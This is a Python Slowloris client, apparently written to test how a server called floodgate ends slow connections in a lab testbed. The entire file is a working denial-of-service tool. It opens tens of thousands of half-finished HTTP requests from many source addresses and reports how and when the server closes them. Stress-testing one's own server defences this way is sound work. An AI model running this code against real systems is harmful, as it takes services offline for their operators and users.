#!/usr/bin/env python3
"""Slowloris client for the testbed: many connections that each send an HTTP
request head one byte every few seconds and never finish it.

Runs in fgt-cli against floodgate's `http` app:

  slowloris.py --server 198.18.0.1 --port 80 --connections 50000 \
      --sources 198.18.0.10-73 --interval 3 --duration 60

The connections are spread over --procs processes (a process may hold
only RLIMIT_NOFILE descriptors, and root in a container may not raise the
hard limit). Each opens its share as fast as the kernel takes them (non-blocking
connect, epoll), then writes the next byte of an endless header block on
every connection once per --interval. Records, per connection, when its SYN
left and when the server ended it (EOF after a 408 or a bare FIN,
or RST). Stops when every connection has ended, or after --duration.
Standard library only. Prints one line:

  opened=N connected=C failed=F ended=E got_408=G bytes_sent=B still_open=S
      ended_min=.. ended_p50=.. ended_max=.. elapsed=.. procs=P

(ended_* are seconds from a connection's connect() to its end). Exit
status 0 iff every connection connected.
"""

import argparse
import errno
import json
import os
import resource
import select
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: slowloris\r\n" + b"".join(
    b"X-%d: %s\r\n" % (i, b"a" * 8) for i in range(100000)
)

IP_BIND_ADDRESS_NO_PORT = 24


def parse_sources(spec):
    base, _, rng = spec.rpartition(".")
    lo, _, hi = rng.partition("-")
    hi = hi or lo
    return ["%s.%d" % (base, i) for i in range(int(lo), int(hi) + 1)]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", default="198.18.0.1")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--connections", type=int, default=50000)
    ap.add_argument("--procs", type=int, default=0, help="processes [default: enough for RLIMIT_NOFILE]")
    ap.add_argument("--sources", default="198.18.0.10-73")
    ap.add_argument("--interval", type=float, default=3.0)
    ap.add_argument("--duration", type=float, default=60.0)
    args = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    per_proc = max(1, hard - 256)
    procs = args.procs or -(-args.connections // per_proc)
    start = time.monotonic()
    kids = []
    for k in range(procs):
        share = args.connections // procs + (1 if k < args.connections % procs else 0)
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            try:
                res = run(args, share, k)
                os.write(w, json.dumps(res).encode())
            finally:
                os._exit(0)
        os.close(w)
        kids.append((pid, r))
    total = {"opened": 0, "connected": 0, "failed": 0, "ended": 0, "got_408": 0, "bytes_sent": 0,
             "still_open": 0, "durations": [], "endings": {}}
    for pid, r in kids:
        data = b""
        while True:
            chunk = os.read(r, 1 << 20)
            if not chunk:
                break
            data += chunk
        os.close(r)
        os.waitpid(pid, 0)
        if not data:
            total["failed"] += 1
            continue
        res = json.loads(data)
        for key in ("opened", "connected", "failed", "ended", "got_408", "bytes_sent", "still_open"):
            total[key] += res[key]
        total["durations"] += res["durations"]
        for how, n in res["endings"].items():
            total["endings"][how] = total["endings"].get(how, 0) + n
    durations = sorted(total["durations"])

    def q(p):
        return "%.2f" % durations[min(len(durations) - 1, int(p * len(durations)))] if durations else "-"

    print(
        "opened=%d connected=%d failed=%d ended=%d got_408=%d bytes_sent=%d still_open=%d "
        "ended_min=%s ended_p50=%s ended_max=%s elapsed=%.1f procs=%d"
        % (total["opened"], total["connected"], total["failed"], total["ended"], total["got_408"],
           total["bytes_sent"], total["still_open"], q(0), q(0.5), q(1.0), time.monotonic() - start, procs)
    )
    print("endings: %s" % sorted(total["endings"].items()), file=sys.stderr)
    return 0 if total["connected"] == args.connections else 1


def run(args, count, k):
    """One process's share: `count` connections, sources taken round robin
    starting at offset `k`."""
    sources = parse_sources(args.sources)
    ep = select.epoll(sizehint=count)
    socks = {}  # fd -> [sock, state, t_connected, sent, got]
    start = time.monotonic()
    end = start + args.duration
    opened = connected = failed = ended = got_408 = bytes_sent = 0
    durations = []
    errors = {}

    def finish(fd, now, how):
        nonlocal ended, got_408
        s, state, t_open, sent, got = socks.pop(fd)
        try:
            ep.unregister(fd)
        except OSError:
            pass
        s.close()
        if state == "open":
            ended += 1
            durations.append(now - t_open)
            if got.startswith(b"HTTP/1.1 408"):
                got_408 += 1
        errors[how] = errors.get(how, 0) + 1

    # Open everything first: connect() never blocks.
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        s.bind((sources[(i + k) % len(sources)], 0))
        err = s.connect_ex((args.server, args.port))
        if err not in (0, errno.EINPROGRESS):
            failed += 1
            errors[errno.errorcode.get(err, str(err))] = errors.get(errno.errorcode.get(err, str(err)), 0) + 1
            s.close()
            continue
        opened += 1
        # Timed from the SYN: the server's deadline starts later (at its
        # accept), so an ending is never measured early.
        socks[s.fileno()] = [s, "connecting", time.monotonic(), 0, b""]
        ep.register(s.fileno(), select.EPOLLOUT | select.EPOLLIN)

    next_tick = time.monotonic()
    while socks and time.monotonic() < end:
        now = time.monotonic()
        timeout = max(0.0, min(next_tick - now, 0.2))
        for fd, ev in ep.poll(timeout, 4096):
            entry = socks.get(fd)
            if entry is None:
                continue
            s = entry[0]
            now = time.monotonic()
            if entry[1] == "connecting":
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    failed += 1
                    socks.pop(fd)
                    ep.unregister(fd)
                    s.close()
                    name = errno.errorcode.get(err, str(err))
                    errors[name] = errors.get(name, 0) + 1
                    continue
                entry[1] = "open"
                connected += 1
                ep.modify(fd, select.EPOLLIN)
                # The first byte at once; the rest on the ticks.
                try:
                    s.send(HEAD[:1])
                    entry[3] = 1
                    bytes_sent += 1
                except OSError:
                    pass
                if not (ev & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR)):
                    continue
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError as e:
                finish(fd, now, errno.errorcode.get(e.errno, str(e.errno)))
                continue
            if not data:
                finish(fd, now, "eof")
            else:
                entry[4] += data
        now = time.monotonic()
        if now >= next_tick:
            next_tick = now + args.interval
            for fd, entry in list(socks.items()):
                if entry[1] != "open":
                    continue
                try:
                    entry[0].send(HEAD[entry[3] : entry[3] + 1])
                    entry[3] += 1
                    bytes_sent += 1
                except BlockingIOError:
                    pass
                except OSError as e:
                    finish(fd, now, errno.errorcode.get(e.errno, str(e.errno)))

    for entry in socks.values():
        entry[0].close()
    return {"opened": opened, "connected": connected, "failed": failed, "ended": ended, "got_408": got_408,
            "bytes_sent": bytes_sent, "still_open": len(socks), "durations": durations, "endings": errors}


if __name__ == "__main__":
    sys.exit(main())
